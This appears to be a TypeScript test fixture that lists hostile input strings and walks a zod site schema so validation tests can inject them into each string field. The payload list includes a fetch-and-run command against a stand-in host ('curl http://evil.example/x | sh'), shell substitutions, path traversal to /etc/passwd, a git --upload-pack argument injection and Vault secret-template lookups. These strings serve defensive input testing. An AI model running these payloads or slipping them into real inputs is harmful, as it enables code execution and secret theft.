/**
 * The payload corpus and the schema walk shared by test/input.test.ts and test/properties.test.ts.
 */
import { z } from 'zod';
import { siteSchema } from '../charts/site-schema';

export const PAYLOADS: readonly string[] = [
  'x\n; curl http://evil.example/x | sh',
  'a\r\nb',
  '$(id)',
  '${HOME}',
  '`id`',
  'a;b',
  'a && b',
  'a | b',
  "it's",
  'say "hi"',
  '{{ .Data.data.admin_password }}',
  '{{- with secret "kv/data/other" -}}',
  ']]>',
  '<![CDATA[x]]>',
  '</name><evil/>',
  'a\u2028b',
  'a\u2029b',
  'a\u0085b',
  'a\u0000b',
  'a\tb',
  '\u202egnp.exe',
  '%{ if true }x%{ endif }',
  '..',
  '../../etc/passwd',
  '-rf',
  '--upload-pack=touch /tmp/pwned',
  'x'.repeat(100 * 1024),
  'HEAD@{1}',
  ' leading',
  '',
];

/** A field of the schema that holds a string, with the value to build around it. */
interface StringField {
  readonly path: (string | number)[];
  /** The schema is an enum: payloads are refused by definition, still worth asserting. */
  readonly enumValues?: readonly string[];
}

function unwrap(s: z.core.$ZodType): z.core.$ZodType {
  let cur = s;
  // A transform (z.pipe) validates its input schema: walk that one.
  for (;;) {
    if (cur instanceof z.ZodDefault || cur instanceof z.ZodPrefault || cur instanceof z.ZodOptional) cur = cur.unwrap() as z.core.$ZodType;
    else if (cur instanceof z.ZodPipe) cur = cur.in as z.core.$ZodType;
    else break;
  }
  return cur;
}

/** Every string leaf of the schema; array elements as index 0. */
export function stringFields(schema: z.core.$ZodType = siteSchema, path: (string | number)[] = []): StringField[] {
  const s = unwrap(schema);
  if (s instanceof z.ZodString) return [{ path }];
  if (s instanceof z.ZodEnum) return [{ path, enumValues: s.options as string[] }];
  if (s instanceof z.ZodArray) return stringFields(s.element as z.core.$ZodType, [...path, 0]);
  if (s instanceof z.ZodObject) return Object.entries(s.shape).flatMap(([k, v]) => stringFields(v as z.core.$ZodType, [...path, k]));
  return [];
}

/** Every number and boolean leaf of the schema (the rest of the schema besides strings). */
export function scalarFields(schema: z.core.$ZodType = siteSchema, path: (string | number)[] = []): { path: (string | number)[]; kind: 'number' | 'boolean' }[] {
  const s = unwrap(schema);
  if (s instanceof z.ZodNumber) return [{ path, kind: 'number' }];
  if (s instanceof z.ZodBoolean) return [{ path, kind: 'boolean' }];
  if (s instanceof z.ZodArray) return scalarFields(s.element as z.core.$ZodType, [...path, 0]);
  if (s instanceof z.ZodObject) return Object.entries(s.shape).flatMap(([k, v]) => scalarFields(v as z.core.$ZodType, [...path, k]));
  return [];
}

/** Required siblings of an array element, so only the field under test is wrong. */
const ELEMENT: Readonly<Record<string, Record<string, unknown>>> = {
  nodes: { name: 'node-01', ip: '192.168.10.20' },
  'workloads.minio.buckets': { name: 'backups' },
  'workloads.minio.clients': { namespace: 'monitoring', app: 'loki' },
};

/** A site input with `value` at `path` (array elements completed from ELEMENT). */
export function inputWith(path: readonly (string | number)[], value: unknown): Record<string, unknown> {
  const root: Record<string, unknown> = {};
  let cur: Record<string, unknown> | unknown[] = root;
  const keys: string[] = [];
  path.forEach((p, i) => {
    const last = i === path.length - 1;
    if (typeof p === 'number') {
      const arr = cur as unknown[];
      if (last) arr[p] = value;
      else {
        const el = { ...(ELEMENT[keys.join('.')] ?? {}) };
        arr[p] = el;
        cur = el;
      }
      return;
    }
    keys.push(p);
    const obj = cur as Record<string, unknown>;
    if (last) obj[p] = value;
    else {
      obj[p] = typeof path[i + 1] === 'number' ? [] : (obj[p] ?? {});
      cur = obj[p] as Record<string, unknown> | unknown[];
    }
  });
  return root;
}
